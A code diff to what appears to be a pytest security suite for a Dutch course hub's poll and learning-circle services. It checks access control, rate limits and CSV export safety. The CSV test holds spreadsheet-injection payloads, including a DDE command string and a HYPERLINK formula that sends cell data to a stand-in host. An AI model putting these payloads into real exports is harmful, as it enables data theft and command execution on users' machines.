@@ -14,7 +14,7 @@ import time
 import pytest
 import requests
 
-from hub_helpers import as_user, hub_start, login, port_for, reachable_base, stop_course_hub
+from hub_helpers import service_url, as_user, hub_start, login, port_for, reachable_base, stop_course_hub
 
 TEACHER, COLLEAGUE, OTHER_TEACHER, ADMIN = "pkdocent", "pkdocent2", "pkdocx", "pkbeheer"
 STUDENTS = ["pkanna", "pkbea", "pkcor", "pkdirk", "pkemma"]
@@ -50,21 +50,21 @@ def xsrf(session: requests.Session, prefix: str = PEILING) -> str:
 
 def new_poll(teacher: requests.Session, hub: dict, questions: str = "", plan: str = "",
              course_only: bool = False) -> str:
-    home = teacher.get(f"{hub['url']}{PEILING}begeleider")
+    home = teacher.get(f"{service_url(hub, 'peiling')}/begeleider")
     assert home.status_code == 200 and "Peiling voor de begeleider" in home.text, home.text[:300]
     data = {"_xsrf": xsrf(teacher), **({"plan": plan} if plan else {"titel": "Proef", "vragen": questions})}
     if course_only:
         data["alleen_cursus"] = "ja"
-    made = teacher.post(f"{hub['url']}{PEILING}begeleider", data=data)
+    made = teacher.post(f"{service_url(hub, 'peiling')}/begeleider", data=data)
     return re.search(r"Code <strong>([A-Z0-9]{6})", made.text).group(1)
 
 
 def answer(session: requests.Session, hub: dict, code: str, value: str, question: str | None = None):
-    page = session.get(f"{hub['url']}{PEILING}p/{code}")
+    page = session.get(f"{service_url(hub, 'peiling')}/p/{code}")
     if page.status_code != 200:
         return page
     vraag = question or re.search(r'name="vraag" value="(\d+)"', page.text).group(1)
-    return session.post(f"{hub['url']}{PEILING}p/{code}", data={"_xsrf": xsrf(session), "vraag": vraag,
+    return session.post(f"{service_url(hub, 'peiling')}/p/{code}", data={"_xsrf": xsrf(session), "vraag": vraag,
                                                                   "antwoord": value})
 
 
@@ -82,35 +82,35 @@ def test_a_course_only_poll_is_for_its_course_only(hub):
     secret = "Mijn buurvrouw Fatma durft niet naar de schuldhulp"
     anna = login(hub, "pkanna")
     assert "Je antwoord is ontvangen" in answer(anna, hub, code, secret).text
-    session = teacher.get(f"{hub['url']}{PEILING}begeleider/{code}")
+    session = teacher.get(f"{service_url(hub, 'peiling')}/begeleider/{code}")
     handle = re.search(r'name="antwoord" value="([0-9a-f]{16})"', session.text).group(1)
-    teacher.post(f"{hub['url']}{PEILING}begeleider/{code}", data={"_xsrf": xsrf(teacher), "antwoord": handle,
+    teacher.post(f"{service_url(hub, 'peiling')}/begeleider/{code}", data={"_xsrf": xsrf(teacher), "antwoord": handle,
                                                                     "actie": "goedkeuren"})
     # a member of the course follows it live and on the screen
-    assert secret in first_event(anna.get(f"{hub['url']}{PEILING}p/{code}/stroom", stream=True, timeout=10))
-    assert secret in anna.get(f"{hub['url']}{PEILING}scherm/{code}").text
+    assert secret in first_event(anna.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10))
+    assert secret in anna.get(f"{service_url(hub, 'peiling')}/scherm/{code}").text
 
     # a guest without any cookie: no stream, no screen (the hub's login instead)
-    guest = requests.get(f"{hub['url']}{PEILING}p/{code}/stroom", stream=True, timeout=10)
+    guest = requests.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
     assert guest.status_code == 403 and secret not in guest.text
-    screen = requests.get(f"{hub['url']}{PEILING}scherm/{code}", timeout=10)
+    screen = requests.get(f"{service_url(hub, 'peiling')}/scherm/{code}", timeout=10)
     assert secret not in screen.text and "/hub/login" in screen.url
 
     # a student of another course is logged in on the same hub, and still not a member
     bob = login(hub, OTHER_STUDENT)
-    page = bob.get(f"{hub['url']}{PEILING}p/{code}")
+    page = bob.get(f"{service_url(hub, 'peiling')}/p/{code}")
     assert page.status_code == 403 and "alleen voor deelnemers van de cursus" in page.text
-    posted = bob.post(f"{hub['url']}{PEILING}p/{code}", data={"_xsrf": xsrf(bob), "vraag": "0",
+    posted = bob.post(f"{service_url(hub, 'peiling')}/p/{code}", data={"_xsrf": xsrf(bob), "vraag": "0",
                                                                "antwoord": "Ik doe toch mee"})
     assert posted.status_code == 403
-    stream = bob.get(f"{hub['url']}{PEILING}p/{code}/stroom", stream=True, timeout=10)
+    stream = bob.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
     assert stream.status_code == 403 and secret not in stream.text
-    screen = bob.get(f"{hub['url']}{PEILING}scherm/{code}")
+    screen = bob.get(f"{service_url(hub, 'peiling')}/scherm/{code}")
     assert screen.status_code == 403 and secret not in screen.text
     # the teacher of another course is no member either
     other = login(hub, OTHER_TEACHER)
-    assert other.get(f"{hub['url']}{PEILING}scherm/{code}").status_code == 403
-    pending = teacher.get(f"{hub['url']}{PEILING}begeleider/{code}").text
+    assert other.get(f"{service_url(hub, 'peiling')}/scherm/{code}").status_code == 403
+    pending = teacher.get(f"{service_url(hub, 'peiling')}/begeleider/{code}").text
     assert "Ik doe toch mee" not in pending
 
 
@@ -120,18 +120,18 @@ def test_a_poll_belongs_to_its_course(hub):
     teacher = login(hub, TEACHER)
     code = new_poll(teacher, hub, plan="evaluatie")
     emma = login(hub, "pkemma")
-    page = emma.get(f"{hub['url']}{PEILING}p/{code}")
+    page = emma.get(f"{service_url(hub, 'peiling')}/p/{code}")
     last = str(int(re.search(r"vraag \d+ van (\d+)", page.text).group(1)) - 1)
     pending = "Ik durfde in de les niet te zeggen dat ik zelf schulden heb"
     assert "laatste vraag" in answer(emma, hub, code, pending, question=last).text
 
     other = login(hub, OTHER_TEACHER)
-    base = f"{hub['url']}{PEILING}begeleider"
+    base = f"{service_url(hub, 'peiling')}/begeleider"
     assert code not in other.get(base).text
     for path in (f"/{code}", f"/{code}/export.csv", f"/{code}/export.png"):
         r = other.get(base + path)
         assert r.status_code == 403 and "andere cursus" in r.text and pending not in r.text, path
-    stream = other.get(f"{hub['url']}{PEILING}p/{code}/stroom", stream=True, timeout=10)
+    stream = other.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
     assert stream.status_code == 403
     stream.close()
     other.get(base)
@@ -156,11 +156,11 @@ def test_one_client_cannot_take_every_stream(hub):
     teacher = login(hub, TEACHER)
     code = new_poll(teacher, hub, "keuze: Wie begint? | Ik | Jij")
     other_code = new_poll(teacher, hub, "schaal: Hoe gaat het?")
-    stream_url = f"{hub['url']}{PEILING}p/{code}/stroom"
+    stream_url = f"{service_url(hub, 'peiling')}/p/{code}/stroom"
     held = []
     try:
         hostile = requests.Session()
-        hostile.get(f"{hub['url']}{PEILING}p/{code}")
+        hostile.get(f"{service_url(hub, 'peiling')}/p/{code}")
         mine = []
         for _ in range(8):
             held.append(hostile.get(stream_url, stream=True, timeout=10))
@@ -175,8 +175,8 @@ def test_one_client_cannot_take_every_stream(hub):
         assert anonymous.count(200) == 20 and anonymous.count(429) == 5, anonymous
         for poll in (code, other_code):
             participant = requests.Session()
-            participant.get(f"{hub['url']}{PEILING}p/{poll}")
-            r = participant.get(f"{hub['url']}{PEILING}p/{poll}/stroom", stream=True, timeout=10)
+            participant.get(f"{service_url(hub, 'peiling')}/p/{poll}")
+            r = participant.get(f"{service_url(hub, 'peiling')}/p/{poll}/stroom", stream=True, timeout=10)
             assert r.status_code == 200 and f'"code": "{poll}"' in first_event(r), poll
     finally:
         for r in held:
@@ -187,25 +187,25 @@ def test_the_leerkring_hides_which_posts_exist(hub):
     """Weaknesses: a post id above 2^63 is 404 (was 500); a post in another set gets the same
     status and message as one that does not exist."""
     teacher = login(hub, TEACHER)
-    teacher.get(f"{hub['url']}{LEERKRING}")
-    made_a = teacher.post(f"{hub['url']}{LEERKRING}", data={"naam": "Kring A", "lid": STUDENTS[:4],
+    teacher.get(f"{service_url(hub, 'leerkring')}/")
+    made_a = teacher.post(f"{service_url(hub, 'leerkring')}/", data={"naam": "Kring A", "lid": STUDENTS[:4],
                                                             "_xsrf": xsrf(teacher, LEERKRING)})
-    made_b = teacher.post(f"{hub['url']}{LEERKRING}", data={"naam": "Kring B", "lid": STUDENTS[1:],
+    made_b = teacher.post(f"{service_url(hub, 'leerkring')}/", data={"naam": "Kring B", "lid": STUDENTS[1:],
                                                             "_xsrf": xsrf(teacher, LEERKRING)})
     set_a = re.search(r"/kring/(\d+)", made_a.url).group(1)
     set_b = re.search(r"/kring/(\d+)", made_b.url).group(1)
     anna = login(hub, "pkanna")
-    anna.get(f"{hub['url']}{LEERKRING}kring/{set_a}")
-    shared = anna.post(f"{hub['url']}{LEERKRING}kring/{set_a}", data={
+    anna.get(f"{service_url(hub, 'leerkring')}/kring/{set_a}")
+    shared = anna.post(f"{service_url(hub, 'leerkring')}/kring/{set_a}", data={
         "_xsrf": xsrf(anna, LEERKRING), "actie": "vraagstuk", "tekst": "Een bewoner vertrouwt ons niet meer."})
     problem = int(re.search(r'name="post" value="(\d+)"><button name="actie" value="intrekken">Vraagstuk',
                             shared.text).group(1))
 
     emma = login(hub, "pkemma")  # only in set B
-    emma.get(f"{hub['url']}{LEERKRING}kring/{set_b}")
+    emma.get(f"{service_url(hub, 'leerkring')}/kring/{set_b}")
 
     def probe(action: str, post) -> tuple[int, str]:
-        r = emma.post(f"{hub['url']}{LEERKRING}kring/{set_b}", data={
+        r = emma.post(f"{service_url(hub, 'leerkring')}/kring/{set_b}", data={
             "_xsrf": xsrf(emma, LEERKRING), "actie": action, "post": str(post), "tekst": "Wat bedoel je precies?",
             "toch": "ja"})
         found = re.search(r'<p class="probleem" role="alert">([^<]*)</p>', r.text)
@@ -215,7 +215,7 @@ def test_the_leerkring_hides_which_posts_exist(hub):
         there, missing, huge = probe(action, problem), probe(action, problem + 10_000), probe(action, 2**64 + 1)
         assert there == missing == huge, (action, there, missing, huge)
         assert there[0] == 404, (action, there)
-    assert "vertrouwt ons" in anna.get(f"{hub['url']}{LEERKRING}kring/{set_a}").text  # nothing changed
+    assert "vertrouwt ons" in anna.get(f"{service_url(hub, 'leerkring')}/kring/{set_a}").text  # nothing changed
 
 
 def test_the_csv_export_holds_no_formulas(hub):
@@ -225,7 +225,7 @@ def test_the_csv_export_holds_no_formulas(hub):
     code = new_poll(teacher, hub, "woorden: Welk woord past?\nopen: Wat neem je mee?")
     for word in ("=1+1", "+cmd|calc!a0"):
         assert "Je antwoord is ontvangen" in answer(requests.Session(), hub, code, word).text
-    base = f"{hub['url']}{PEILING}begeleider/{code}"
+    base = f"{service_url(hub, 'peiling')}/begeleider/{code}"
     teacher.get(base)
     teacher.post(base, data={"_xsrf": xsrf(teacher), "actie": "volgende"})
     link = '=HYPERLINK("http://x.example/?"&A1;"klik")'
@@ -246,7 +246,7 @@ def test_spoofed_addresses_do_not_multiply_devices(hub):
     a question's answer cap. Runs last: it uses up this address's new devices for a minute."""
     teacher = login(hub, TEACHER)
     code = new_poll(teacher, hub, "keuze: Eens? | Ja | Nee")
-    url = f"{hub['url']}{PEILING}p/{code}"
+    url = f"{service_url(hub, 'peiling')}/p/{code}"
     statuses = []
     with requests.Session() as pool:
         for i in range(640):
